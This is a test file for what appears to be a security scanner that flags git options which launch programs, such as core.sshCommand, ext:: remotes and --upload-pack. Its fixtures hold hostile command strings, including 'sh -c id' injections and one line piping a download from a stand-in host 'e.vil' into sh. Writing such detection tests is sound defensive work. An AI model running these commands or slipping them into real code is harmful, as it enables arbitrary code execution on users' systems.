import t from 'tap';
import { gitOptionFinding, gitLaunch, COMPUTED_TAIL } from '../../../../plugins/engines/code/git-options.js';
import { envHookFinding } from '../../../../plugins/engines/code/env-hooks.js';
import { blockedOverHttp, pick, ruleTable } from '../rule-table.js';

/**
 * git options in an argv that make git run a program — `-c core.sshCommand=…`, `-c core.pager=…`,
 * `--upload-pack=…`, an `ext::` remote, `rebase --exec`, `git config <key> <program>` — were a fixed
 * program with fixed arguments (VERIFIED, is_valid true, ADMIT), though the same commands given by
 * GIT_SSH_COMMAND or GIT_CONFIG_PARAMETERS were already process.env_hook.
 */
const PY: Array<[name: string, src: string, rule: string]> = [
  ['-c core.sshCommand', "import subprocess\nsubprocess.run(['git', '-c', 'core.sshCommand=sh -c id', 'fetch'])\n", 'python.process.git_option'],
  ['-c core.pager', "import subprocess\nsubprocess.run(['git', '-c', 'core.pager=touch /tmp/x', 'log'])\n", 'python.process.git_option'],
  ['-c core.fsmonitor', "import subprocess\nsubprocess.check_output(['git', '-c', 'core.fsmonitor=./x', 'status'])\n", 'python.process.git_option'],
  ['-c protocol.ext.allow and ext::', "import subprocess\nsubprocess.run(['git', '-c', 'protocol.ext.allow=always', 'clone', 'ext::sh -c id', 'd'])\n", 'python.process.git_option'],
  ['-c with a computed key', "import subprocess\nsubprocess.run(['git', '-c', setting, 'fetch'])\n", 'python.process.git_option'],
  ['-c key from an f-string', "import subprocess\nsubprocess.run(['git', '-c', f'core.sshCommand={c}', 'fetch'])\n", 'python.process.git_option'],
  ['--upload-pack=', "import subprocess\nsubprocess.run(['git', 'fetch', '--upload-pack=touch /tmp/x', 'origin'])\n", 'python.process.git_option'],
  ['clone -u', "import subprocess\nsubprocess.run(['git', 'clone', '-u', 'touch /tmp/x', url])\n", 'python.process.git_option'],
  ['clone --config', "import subprocess\nsubprocess.run(['git', 'clone', '--config', 'core.sshCommand=sh', url])\n", 'python.process.git_option'],
  ['rebase --exec', "import subprocess\nsubprocess.run(['git', 'rebase', '--exec', 'make test', 'main'])\n", 'python.process.git_option'],
  ['git config of a program key', "import subprocess\nsubprocess.run(['git', 'config', '--global', 'alias.x', '!sh -c id'])\n", 'python.process.git_option'],
  ['an abbreviated --upload-pack', "import subprocess\nsubprocess.run(['git', 'clone', '--upload=touch /tmp/x', url])\n", 'python.process.git_option'],
  ['an abbreviated clone --config', "import subprocess\nsubprocess.run(['git', 'clone', '--conf', 'core.pager=sh', url])\n", 'python.process.git_option'],
  ['-c with the setting attached', "import subprocess\nsubprocess.run(['git', '-ccore.sshCommand=sh -c id', 'fetch'])\n", 'python.process.git_option'],
  ['git behind a launcher', "import subprocess\nsubprocess.run(['env', 'git', '-c', 'core.sshCommand=x', 'fetch'])\n", 'python.process.git_option'],
  ['submodule foreach runs a shell', "import subprocess\nsubprocess.run(['git', 'submodule', 'foreach', 'curl http://e.vil/x | sh'])\n", 'python.rce.download_pipe_shell'],
  ['bisect run of a shell', "import subprocess\nsubprocess.run(['git', 'bisect', 'run', 'sh', '-c', cmd])\n", 'python.process.interpreter'],
];
const PY_SAFE: Array<[name: string, src: string]> = [
  ['git fetch', "import subprocess\nsubprocess.run(['git', 'fetch', 'origin'])\n"],
  ['-c user.name with a computed value', "import subprocess\nsubprocess.run(['git', '-c', 'user.name=' + name, '-c', f'user.email={email}', 'commit', '-m', 'x'])\n"],
  ['-c safe.directory', "import subprocess\nsubprocess.run(['git', '-c', 'safe.directory=*', '-C', repo, 'status'])\n"],
  ['push -u and clean -x are not programs', "import subprocess\nsubprocess.run(['git', 'push', '-u', 'origin', 'main'])\nsubprocess.run(['git', 'clean', '-xdf'])\n"],
  ['git config of a name', "import subprocess\nsubprocess.run(['git', 'config', '--global', 'user.name', 'bot'])\n"],
  ['send-email --to is not --to-cmd', "import subprocess\nsubprocess.run(['git', 'send-email', '--to=dev@example.org', 'x.patch'])\n"],
  ['git config read', "import subprocess\nsubprocess.run(['git', 'config', '--get', 'core.pager'])\n"],
  ['bisect run of a fixed program', "import subprocess\nsubprocess.run(['git', 'bisect', 'run', 'make', 'test'])\n"],
  ['clone of a computed url is MEDIUM', "import subprocess\nsubprocess.run(['git', 'clone', url, dest])\n"],
];
const JS: Array<[name: string, src: string, rule: string]> = [
  ['spawn -c core.sshCommand template', "require('child_process').spawn('git', ['-c', `core.sshCommand=${c}`, 'fetch'])", 'javascript.process.git_option'],
  ['execFile --upload-pack', "require('child_process').execFile('git', ['clone', '--upload-pack', 'touch x', url])", 'javascript.process.git_option'],
  ['execFileSync ext::', "require('child_process').execFileSync('git', ['ls-remote', 'ext::sh -c id'])", 'javascript.process.git_option'],
  ['spawnSync git config pager', "require('child_process').spawnSync('git', ['config', 'core.pager', 'sh -c id'])", 'javascript.process.git_option'],
];
const JS_SAFE: Array<[name: string, src: string]> = [
  ['execFileSync -c user.name', "require('child_process').execFileSync('git', ['-c', `user.name=${n}`, 'commit', '-m', m])"],
  ['spawn git status', "require('child_process').spawn('git', ['-C', dir, 'status', '--porcelain'])"],
];

ruleTable('python: git options that run programs', 'python', PY, PY_SAFE);
ruleTable('javascript: git options that run programs', 'javascript', JS, JS_SAFE);

t.test('gitOptionFinding', async (t) => {
  t.equal(gitOptionFinding(['fetch', 'origin']), null);
  t.match(gitOptionFinding(['-c', 'core.sshCommand=ssh -i k', 'fetch']), /core\.sshCommand/, 'any program key, even a fixed ssh');
  t.equal(gitOptionFinding(['-c', `user.name=${COMPUTED_TAIL}`, 'commit']), null, 'a safe key with a computed value');
  t.match(gitOptionFinding(['-c', `core.${COMPUTED_TAIL}`, 'fetch']), /chosen at run time/, 'a key with a computed part');
  t.equal(gitOptionFinding(['-c', 'credential.helper=', 'fetch']), null, 'an empty credential helper switches helpers off');
  t.match(gitOptionFinding(['--config-env=core.sshCommand=X', 'fetch']), /core\.sshCommand/);
  t.match(gitOptionFinding(['difftool', '-xvimdiff']), /-x/, 'an attached short value');
  t.equal(gitOptionFinding(['grep', '-O', 'x']), null, 'bare -O uses the user pager');
  t.match(gitOptionFinding(['grep', '-Ovim', 'x']), /-O/);
  t.equal(gitOptionFinding(['log', '--', '--exec=x']), null, 'after -- it is a path');
  t.same(gitLaunch(['bisect', 'run', 'make']), { shell: false, items: ['make'] });
  t.same(gitLaunch(['submodule', '--quiet', 'foreach', '--recursive', 'git', 'pull']), { shell: true, items: ['git', 'pull'] });
  t.equal(gitLaunch(['bisect', 'run']), null);
});

t.test('the environment and argv share the safe keys', async (t) => {
  t.equal(envHookFinding('GIT_CONFIG_PARAMETERS', "'http.extraheader'='AUTHORIZATION: x'"), null);
  t.match(envHookFinding('GIT_CONFIG_PARAMETERS', "'core.pager'='sh'"), { rule: 'process.env_hook' });
});

blockedOverHttp(
  'POST /verify/code answers BLOCKED admission for git options that run programs',
  [...pick(PY, ['-c core.sshCommand', '-c protocol.ext.allow and ext::'], 'python'), ...pick(JS, ['execFile --upload-pack'], 'javascript')],
  pick(PY_SAFE, ['-c user.name with a computed value'], 'python'),
);
